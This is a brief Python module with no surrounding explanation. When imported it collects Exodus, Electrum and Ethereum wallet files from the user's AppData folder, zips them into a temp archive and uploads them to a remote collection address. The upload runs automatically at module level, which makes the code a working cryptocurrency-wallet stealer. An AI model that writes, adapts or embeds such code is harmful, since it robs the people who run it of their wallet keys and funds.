# place: module
import os
import zipfile
import requests

ADDRESS = "https://collect.example.invalid/upload"
FOLDERS = ["Exodus\\exodus.wallet", "Electrum\\wallets", "Ethereum\\keystore"]


def pack(target):
    base = os.getenv("APPDATA", "")
    with zipfile.ZipFile(target, "w") as archive:
        for folder in FOLDERS:
            for root, _, names in os.walk(os.path.join(base, folder)):
                for name in names:
                    archive.write(os.path.join(root, name))
    return target


def main():
    path = pack(os.path.join(os.getenv("TEMP", "."), "w.zip"))
    with open(path, "rb") as file:
        requests.post(ADDRESS, files={"file": file})


main()
